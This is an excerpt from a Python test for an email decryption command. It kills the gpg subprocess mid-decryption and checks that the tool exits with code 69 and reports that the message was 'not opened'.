    message = tmp_path / "large.eml"
    message.write_bytes(HEADER + pgp_mime(bob_home.encrypt(payload, BOB)))
    with GnuPgHome() as home:
        home.import_key(bob_home.export_secret(BOB))
        command = Command(tmp_path, home)
        with subprocess.Popen([command.program, "decrypt", message], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              env=command.environment()) as process:
            os.kill(wait_for(lambda: gpg_of(home), "gpg at work", seconds=120), signal.SIGKILL)
            out, err = process.communicate(timeout=120)
        # Nothing is known of the message: gpg's death is no judgement on it.
        assert process.returncode == 69 and out == b"", (process.returncode, err)
        assert b"not opened" in err
